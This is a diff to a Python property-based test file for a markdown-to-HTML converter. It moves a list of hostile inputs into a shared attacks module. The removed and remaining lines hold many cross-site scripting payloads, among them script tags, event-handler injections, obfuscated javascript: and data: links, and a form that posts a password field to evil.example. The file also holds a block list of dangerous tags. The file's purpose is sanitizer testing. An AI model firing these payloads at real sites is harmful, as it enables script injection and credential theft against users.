@@ -7,6 +7,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from conversations.markdown import to_html
+from tests.attacks import ATTACKS
 
 HARMFUL = {"script", "style", "img", "svg", "math", "iframe", "form", "input", "base", "meta", "link", "object"}
 
@@ -69,46 +70,8 @@ def test_a_link_leads_to_another_site_or_nowhere(address):
 
 
 HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<form action=https://evil.example><input name=password></form>",
-    "<style>@import 'https://evil.example/x.css'</style>",
-    "<base href=https://evil.example>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<!--><script>alert(1)</script>-->",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](&#x01;javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
-    '[x](https://example.org/"onmouseover="alert(1))',
-    '[x](<https://example.org/" onmouseover="alert(1)>)',
-    "[x](https://example.org '\" onmouseover=\"alert(1)')",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-    '<https://example.org/?"onmouseover=alert(1)>',
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
-    '!["><script>alert(1)</script>](https://example.org/x.png)',
-    "![x](x \"' onerror='alert(1)\")",
-    "[![x](https://example.org/x.png)](javascript:alert(1))",
-    '```"><script>alert(1)</script>\nx\n```',
-    '``` x" onclick="alert(1)\nx\n```',
-    "`<script>alert(1)</script>`",
-    "    <script>alert(1)</script>",
+    *ATTACKS,
     "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
-    "| x |\n| :-: |\n| y |",
-    "# <script>alert(1)</script>",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "\x00<script>alert(1)</script>\x00",
     "<scr\x00ipt>alert(1)</scr\x00ipt>",
